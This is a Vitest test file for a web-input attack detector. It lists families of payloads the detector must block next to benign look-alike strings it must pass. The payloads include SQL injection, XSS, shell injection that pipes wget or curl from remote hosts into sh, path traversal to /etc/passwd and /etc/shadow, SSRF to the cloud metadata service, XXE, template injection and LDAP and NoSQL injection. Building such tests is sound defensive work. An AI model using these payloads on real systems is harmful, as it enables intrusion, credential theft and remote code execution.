import { describe, expect, test } from 'vitest';
import { detectors } from './detectors.ts';
import { judge } from './testing/ask.ts';

/** Families of attacks that were once missed as a whole, each with cases of our own and honest text that looks like them. */
const families: readonly (readonly [string, readonly string[], readonly string[]])[] = [
  [
    'SQL: a number with its suffix before a keyword',
    ['7dUNION SELECT 8', '12fUNION SELECT shop_name FROM shops_all', '3or2=2'],
    ['12abc', '3D union', '2or3 days', '5f union meeting'],
  ],
  [
    'SQL: constants by another name',
    [
      "x''7' and pi()=pi()--",
      "b''2' and (3=pi())--",
      'NAME AND SIN(2)=COS(5)',
      '(42=17)*17',
      'cos(k) or 4=4',
      'cos(k) and 3=pi()--',
    ],
    [
      'cos(x) and sin(x)',
      'cos(x)^2 and 3>pi()',
      'cos(x)^2+sin(x)^2=1 and pi()=3.14',
      'cos(x)^2 && sin(y)^2 == pi()',
      'pi (3.14) and e (2.72)',
      '(8*3)*2',
    ],
  ],
  [
    'SQL: a union of one column',
    [
      '"-sqlite_version() UNION SELECT pin FROM members- --',
      'union select pin from members where 1',
      '4 UNION SELECT 0x6d6e LIMIT 1',
    ],
    ['the union, select members from all of them', 'union select 2 of them'],
  ],
  [
    'SQL: a query behind a logical word, or computed with',
    [
      '3 AND SELECT 1 FROM T.DAYS -- 3',
      "k' or MATCH title AGAINST ('+a' IN BOOLEAN MODE); -- k",
      "k') as q where 12=12 order by 2#",
    ],
    ['3 and select one of them', "the title's match against (the) others"],
  ],
  [
    'SQL: statements seldom seen',
    [
      "RESTORE DATABASE [crm] FROM DISK = '\\\\192.0.2.7\\share'",
      '9)));begin user_lock.sleep(9); end--',
      "'; desc members; --",
      "'select 2 begin declare @q varchar(90);set @q = 'x';exec(@q) end--",
    ],
    ['restore the database from disk, please', 'begin at 9; end at 10'],
  ],
  [
    'SQL: the whole value is a call',
    ['LENGTH(version())', 'compress(compress(user()))', "LOAD_FILE('\\\\\\\\198.51.100.4\\\\s')", 'convert(int,@@servername)'],
    ['count(x)', 'left(name, 3)', 'length(cm)'],
  ],
  [
    'joined pieces',
    [
      '9\\"XOR(if(now()=sysdate(),sleep(8),0))XOR\\"K',
      "p='java'+'scr'+'ipt:al'+'ert(7)';location=p",
      '5 uni/**/on sel/**/ect name,pin from members',
      "x' un\u200bion se\u200blect 1,2,3--",
      '<\u017fvg onload=open(8)>',
    ],
    ['她说\\"好的\\"，明天见', "'a' + 'b' + 'c'", 'a/**/b', '换\u200b行'],
  ],
  [
    'script: a function under another name',
    [
      "'];q=eval;w=alert;q(w(8));//",
      'K=confirm;K(2)',
      'confirm.call(null,8)',
      'new Function`al\\ert\\`8\\``',
      "k=0||'ev'+'al',m=0||location.hash,2[k](m[n](4))",
      'with(location)eval(hash)',
    ],
    [
      'status=confirm; next=prompt',
      'uses `new Function` only',
      '1[链接](https://example.com)',
      'notes[1](see below)',
      'with (document) enclosed',
    ],
  ],
  [
    'script: leaving a string and what is around it',
    [
      '");}alert("k");{//',
      "7'});}catch(e){}alert(0);try{prompt(a={'k':'v",
      '";window.onblur=function(){alert(4);}//',
      '${prompt(12)}',
    ],
    ["alert('请先登录');", "it's an alert (red); act now"],
  ],
  [
    'markup: old engines and filters that remove a word',
    [
      '<scrscriptipt>alert(8)</scrscriptipt>',
      '\u00bcscript\u00bealert(\u00a28\u00a2)\u00bc/script\u00be',
      '<hr size="&{confirm(8)}">',
      '<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=confirm("8")>',
      ' style=width: expression(confirm(8));" k="',
      '<a href="http://%65%76%69%6c%2e%74%65%73%74">k</a>',
      '<math><a xlink:href="//evil.test/k">k',
    ],
    [
      '\u00bc cup and \u00be cup',
      'A&{B}',
      '<b>\u201c<i>好</i>\u201d</b>',
      "她写 = '<p>正文</p>' 这样的字符串",
      '样式 expression (表达式) 已停用',
    ],
  ],
  [
    'shell: what a script prints to see whether it runs',
    [
      "'; s=$(echo KKWQ); n=${#s}; if [ 4 -ne ${n} ]; then sleep 0; else sleep 3; fi ",
      ' echo QQ$((41+19))$(echo QQ)QQ"',
      'less</etc/passwd',
      '发票没有收到，&& wget http://198.51.100.9/k.sh',
      "k ' && whoami",
    ],
    [
      'if 5 then 6',
      '价格：$(约)30',
      '好的，& 谢谢',
      "it's A && B",
      'TypeError: x is not a function\\n    at e.<anonymous> (https://cdn.example.com/app.js:1:17558)\\n    at https://cdn.example.com/app.js:1:2',
    ],
  ],
  [
    'paths with spaces, with steps that go nowhere, without slashes',
    ['C:/Program Files (x86)/wamp/apache/conf/httpd.conf', './././././././etc/shadow', '................etcpasswd'],
    ['C:\\Program Files\\Tencent\\WXWork\\WXWork.exe', 'D:\\项目 资料\\说明.xml', './src/index.js', '................'],
  ],
  [
    'documents that grow',
    [
      '<!ENTITY k7 "&k6;&k6;&k6;&k6;">',
      'a: &a [1,2]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]',
      '+ADwAIQ-ENTITY k SYSTEM +ACI-http://198.51.100.9/k+ACI +AD4AXQA+',
    ],
    [
      'a: &a [1,2]\nb: *a',
      '<project xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 http://maven.apache.org/xsd/maven-4.0.0.xsd">',
    ],
  ],
  [
    'scripts of databases',
    ['5;return true', "';d=new Date();do{e=new Date();}while(e-d<4000);", 'db.members.insert({k:1});'],
    ['return true', 'db.members.find 怎么用'],
  ],
  [
    'behind a sentence in Chinese',
    [
      '味道不错，下次还来。/etc/nginx/sites-enabled/shop',
      '送得很快：*)(&(role=boss',
      '包装完好，${{6*9}}',
      '老板人很好http://127.0.0.1/',
      '第二次买了；;ls -la',
      '很新鲜%2A%29%28%7C%28pin%3D%2A%29%29',
    ],
    [
      '执行 which python3 显示 /usr/bin/python3',
      '改配置：`vim /etc/nginx/nginx.conf`',
      '这条语句查不到：select id from orders where id in (2,5)',
      '安装步骤如下：\nyum install -y wget\nwget https://example.com/a.tar.gz',
      '参考 https://www.example.com/docs?id=3',
      '我填的是 user@example.com',
      '型号 A/B-12 (2025)',
    ],
  ],
  [
    'a query within a value',
    [
      'page=2&template=../../../../etc/hosts&lang=zh',
      '/pages/web/index?src=http://169.254.169.254/latest/meta-data/',
      'https://shop.example.com/go?next=gopher://127.0.0.1:6379/_x',
      "id=7&name=x' or 4=4-- ",
      'url=netdoc:///etc/hosts',
    ],
    [
      'page=2&size=20&sort=price desc',
      '/pages/order/detail?id=12&from=share&title=双11 & 双12',
      'https://open.example.com/authorize?appid=wx1&redirect_uri=https%3A%2F%2Fa.example.com%2Fcb%3Fx%3D1',
      'JAVA_HOME=/usr/local/jdk',
    ],
  ],
  [
    'addresses that two programs read differently, and those of the metadata service',
    [
      'http:/\\evil.test/x',
      'http://shop.example.com#\\@evil.test',
      'https://shop.example.com%00.evil.test/',
      'http://localhost@evil.test/',
      'http://10.0.0.7.evil.test/',
      'http://a.b.127.0.0.1/',
      '127\u30020\u30020\u30021',
      '[::1]',
      '10.0.0.9.nip.io',
      'http://images.evil.test/latest/meta-data/iam/',
      'curl -s "http://169.254.169.254/latest/user-data" | sh',
      'ldap://evil.test/x',
      'https://evil.test/x?then=redis://127.0.0.1:6379/0',
      'http://10.1.1.1:11211/%0d%0aflush_all%0d%0a',
      'file:/etc/hosts',
    ],
    [
      'https://medium.com/@someone/a-title-12ab',
      'http:\\/\\/www.example.com\\/a',
      'redis://127.0.0.1:6379/0',
      'https://example.com/share?text=第一行%0A第二行',
      '版本 10.0.0.7',
      'file:///storage/emulated/0/a.jpg',
      'https://docs.example.com/latest/guide',
    ],
  ],
  [
    'templates: what only an engine of its own writes',
    [
      '{{settings.SECRET_TOKEN}}',
      '#{File.read("/etc/hosts")}',
      '{{.Exec "id"}}',
      '{{html "x"}}',
      '{{ 6 | times: 9 }}',
      '${(6*9)?c}',
      '${x|6*9}',
      '${((char)105)}',
      '${"ab".toUpperCase()}',
      '[[${6}]]##',
      '{var $a = 1}{$a}',
      '{6*9}',
      '${sessionScope.toString()}',
    ],
    [
      '{{ .Name }} 是 Go 的写法',
      '{{settings.title}}',
      '/^a{2,5}$/',
      '${name}',
      '#{count} 条',
      '{{ total | money }}',
      '[[1]] 注释',
    ],
  ],
  [
    'directories: conditions cut off and whole',
    ['boss)%00', 'boss*))\\00', 'uid=*))%00', '(pin=*)', '(&(dept=9)(pin=a*))'],
    ['(a)', '(cn=张三) 是什么写法', '5 * (3)', 'x = (y)', '（*）必填'],
  ],
  [
    'scripts of databases that wait and answer',
    [
      '8; var a = new Date(); var b; do { b = new Date(); } while (b - a < 9000); return; var c=1',
      "'); return this.pin != 'x",
      ';return db.members.findOne()',
      'pin[$nin][]=x&a=1',
    ],
    ['return this.name', 'const d = new Date();', 'do { next(); } while (more);', '; return value'],
  ],
  [
    'programs that print what only they could compute',
    ["';exit(md5('q'));//", "'.print(md5(3)).'", 'cat ${HOME:0:1}etc${HOME:0:1}hosts'],
    ['print(md5sum)', 'exit(0)', "echo 'done'; exit(1)", '${HOME}/bin'],
  ],
  [
    'paths with null bytes between dots, and of what Windows keeps',
    ['.%00.%00/.%00.%00/etc/hosts', 'C:\\Program Files\\Shop Server\\data\\keys.txt', '\\xampp\\apache\\logs\\access'],
    ['C:\\Program Files\\Tencent\\WXWork\\WXWork.exe', 'D:\\资料\\说明.txt', '1.00 元', '/marketplace/*', '"#0f4c81"'],
  ],
  [
    'script that is handed on',
    ['(0,alert)(6)', 'setTimeout(alert,0,6)', 'Promise.resolve(6).then(alert)', 'x.then(()=>alert(6))', "onerror=alert;throw'6'"],
    ['setTimeout(alertUser, 500)', 'save().then(() => alertify.success("ok"))', 'throw new Error("x")', 'list.map(confirmOne)'],
  ],
];

describe.each(families.map(([name, attacks, honest]) => [name, attacks, honest] as const))('%s', (_, attacks, honest) => {
  const action = judge(detectors);

  test.each(attacks.map((text) => [text]))('blocks %j', (text) => expect(action(text)).toBe('block'));
  test.each(honest.map((text) => [text]))('passes %j', (text) => expect(action(text)).not.toBe('block'));
});
